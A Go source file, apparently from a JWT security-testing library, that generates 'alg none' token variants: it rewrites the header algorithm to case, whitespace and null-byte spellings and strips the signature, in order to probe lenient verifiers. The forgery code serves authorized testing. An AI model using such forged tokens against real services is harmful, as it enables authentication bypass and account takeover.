package attack

import (
	"fmt"

	"github.com/MrEthical07/goForge/token"
)

// DefaultNoneVariants returns the canonical alg none spellings lenient
// verifiers have historically accepted.
func DefaultNoneVariants() []string {
	return []string{"none", "None", "NONE", "nOnE"}
}

// ExtendedNoneVariants adds whitespace and null-byte spellings that probe
// verifiers which trim or truncate the header value before comparing.
func ExtendedNoneVariants() []string {
	return append(DefaultNoneVariants(), "none ", " none", "none\x00")
}

// AlgNone produces one variant per spelling: header alg rewritten, signature
// segment cleared to empty with the trailing dot kept. A nil or empty spelling
// list falls back to DefaultNoneVariants. The payload is left untouched.
//
// AlgNone may return an error when input validation, dependency calls, or security checks fail.
// AlgNone does not mutate shared global state and can be used concurrently when the receiver and dependencies are concurrently safe.
func AlgNone(t *token.Token, spellings []string) ([]Variant, error) {
	if len(spellings) == 0 {
		spellings = DefaultNoneVariants()
	}

	variants := make([]Variant, 0, len(spellings))
	for _, spelling := range spellings {
		derived := t.Clone()
		if err := derived.SetHeaderField("alg", spelling); err != nil {
			return nil, fmt.Errorf("alg none variant: %w", err)
		}
		derived.RemoveSignature()
		desc := fmt.Sprintf("alg set to %q, signature removed", spelling)
		variants = append(variants, newVariant(KindAlgNone, derived, desc))
	}
	return variants, nil
}
